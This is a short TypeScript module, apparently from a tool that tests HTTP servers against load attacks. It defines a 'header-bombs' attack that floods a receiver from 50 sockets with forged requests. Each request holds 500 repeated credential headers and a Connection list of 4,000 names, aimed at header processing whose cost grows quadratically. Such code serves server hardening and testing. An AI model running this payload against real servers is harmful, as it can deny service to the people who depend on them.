import { forgedRequest, type Attack, type AttackConnection } from '../attack.ts';

/** Just under the 16 KiB that a receiver takes: credential headers, and a `Connection` list to look each of them up in. */
const credentials = 'X-Token: a\r\n'.repeat(500);
const list = `Connection: keep-alive,${'a,'.repeat(4_000)}b\r\n`;

/** Work on headers that grows with the square of their number. */
export const headerBombs: Attack = {
  name: 'header-bombs',
  what: 'requests with 500 credential headers and 4,000 names in `Connection`',
  sockets: 50,
  opensPerSecond: 100,
  open: sendBomb,
  again: { everyMs: 500, send: sendBomb },
};

function sendBomb({ write, count }: AttackConnection): void {
  write(forgedRequest(list + credentials));
  count();
}
